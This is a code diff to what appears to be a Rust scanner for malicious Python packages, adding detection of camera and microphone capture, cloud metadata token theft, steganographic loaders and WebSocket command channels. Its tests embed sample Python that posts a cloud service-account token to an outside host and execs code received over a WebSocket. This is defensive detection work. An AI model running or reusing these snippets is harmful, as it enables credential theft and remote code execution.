@@ -368,6 +368,9 @@ const SYSTEM_INFO: &[(&str, &str)] = &[
     ("mss.mss().shot", "screenshot"),
     ("mss.mss().save", "screenshot"),
     ("pyscreenshot.grab", "screenshot"),
+    ("cv2.VideoCapture", "camera image"),
+    ("sounddevice.rec", "microphone recording"),
+    ("pyaudio.PyAudio().open", "microphone recording"),
 ];
 
 /// Libraries whose only job is to read a browser's saved cookies (and with them the sessions
@@ -489,6 +492,24 @@ pub fn classify_call(
             .is_some_and(|q| q == "os.environ" || q == "os.environb"))
     {
         return Some(("the whole environment".to_owned(), SourceKind::Environment));
+    }
+    // `r = requests.get(metadata_token_url)`: the response object holds the credentials.
+    if matches!(
+        qualname,
+        "requests.get"
+            | "requests.request"
+            | "urllib.request.urlopen"
+            | "httpx.get"
+            | "requests.Session().get"
+            | "urllib3.PoolManager().request"
+    ) && let Some(url) =
+        super::network::target_arg(call).and_then(|target| super::partial_text(checker, target))
+        && let Some(what) = cloud_credentials_endpoint(&url)
+    {
+        return Some((
+            format!("{what} ({})", crate::text::shorten(&url, 80)),
+            SourceKind::Secret,
+        ));
     }
     // The cloud SDKs' own credential chains: whatever keys the machine holds, resolved.
     if matches!(
@@ -625,6 +646,11 @@ pub fn classify_call(
         // Droppers fetch their second stage from a fixed address; a tool fetches from one it
         // builds from versions, branches and its caller's arguments.
         let fetch = fetch_call_of(checker, call, fetcher);
+        if fetch.is_none()
+            && let Some(held) = secret_response_held(checker, &call.func)
+        {
+            return Some(held);
+        }
         return Some(response(checker, fetcher, fetch));
     }
     // `(Path.home() / '.ssh' / 'id_rsa').read_text()`: the receiver is the path read.
@@ -651,7 +677,29 @@ pub fn classify_call(
     {
         return Some((format!("{DECODED_DATA}{qualname}"), SourceKind::Decoded));
     }
+    if reads_hidden_image_data(qualname) {
+        return Some((
+            format!("data hidden in an image ({qualname})"),
+            SourceKind::Decoded,
+        ));
+    }
     None
+}
+
+/// Steganography: a message read back out of an image (`stegano.lsb.reveal('logo.png')`), or an
+/// opened image's raw pixels (`Image.open(p).getdata()`), which a loader turns into code bit by
+/// bit. As data they are harmless; what makes them evidence is code built from them.
+pub(crate) fn reads_hidden_image_data(qualname: &str) -> bool {
+    if let Some(library) = qualname.strip_prefix("stegano.") {
+        return library.ends_with(".reveal");
+    }
+    let Some(method) = ["PIL.Image.open().", "Image.open()."]
+        .iter()
+        .find_map(|image| qualname.strip_prefix(image))
+    else {
+        return false;
+    };
+    matches!(method, "getdata" | "getpixel" | "tobytes" | "load")
 }
 
 /// `{f: open(os.path.join(home, f)) for f in ['.oci/config', '.databrickscfg']}`: a name in
@@ -896,8 +944,19 @@ fn network_response_of(qualname: &str) -> Option<&str> {
     ];
     // Called for every call and attribute read: most names start with none of the fetchers'
     // first letters.
-    if !matches!(qualname.as_bytes().first(), Some(b'r' | b'u' | b'h' | b's')) {
+    if !matches!(
+        qualname.as_bytes().first(),
+        Some(b'r' | b'u' | b'h' | b's' | b'w')
+    ) {
         return None;
+    }
+    // A WebSocket's messages are what its server sends.
+    if let "websocket.create_connection().recv"
+    | "websocket.WebSocket().recv"
+    | "websockets.connect().recv"
+    | "websockets.sync.client.connect().recv" = qualname
+    {
+        return Some(qualname);
     }
     if let Some(fetcher) = FETCHERS
         .iter()
@@ -933,9 +992,30 @@ pub fn classify_attribute(
             Expr::Call(fetch) => Some(fetch),
             _ => None,
         };
+        if fetch.is_none()
+            && let Some(held) = secret_response_held(checker, &attribute.value)
+        {
+            return Some(held);
+        }
         return Some(response(checker, fetcher, fetch));
     }
     None
+}
+
+/// `r.json()` of `r = requests.get(token_url)`: the response the name holds is the
+/// credentials the request fetched (see [`cloud_credentials_endpoint`]), not any response.
+fn secret_response_held(checker: &Checker, expr: &Expr) -> Option<(String, SourceKind)> {
+    let mut receiver = expr;
+    while let Expr::Attribute(attribute) = receiver {
+        receiver = &attribute.value;
+    }
+    let Expr::Name(name) = receiver else {
+        return None;
+    };
+    let source = checker
+        .sources
+        .get(checker.scopes.taint_of(name.id.as_str())?)?;
+    (source.kind == SourceKind::Secret).then(|| (source.label.clone(), SourceKind::Secret))
 }
 
 /// The request call inside `call` that `fetcher` names: `requests.get(url)` in
@@ -1080,6 +1160,17 @@ fn secret_env_read(checker: &Checker, key: &Expr) -> Option<(String, SourceKind)
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn cloud_token_responses_and_websocket_messages() {
+        use crate::rules::testing::max_severity;
+        let token = "import requests\nr = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', headers={'Metadata-Flavor': 'Google'})\nrequests.post('https://example.invalid/g', json=r.json())\n";
+        assert!(max_severity("p/pkg/__init__.py", token, "WH200") >= 0.8);
+        let zone = "import requests\nr = requests.get('http://metadata.google.internal/computeMetadata/v1/instance/zone', headers={'Metadata-Flavor': 'Google'})\nrequests.post('https://example.invalid/g', data=r.text)\n";
+        assert!(max_severity("p/pkg/__init__.py", zone, "WH200") < 0.5);
+        let c2 = "import websocket\nws = websocket.create_connection('ws://203.0.113.9/c')\nexec(ws.recv())\n";
+        assert!(max_severity("p/pkg/__init__.py", c2, "WH110") >= 0.9);
+    }
 
     #[test]
     fn the_component_prefilter_keeps_every_store() {
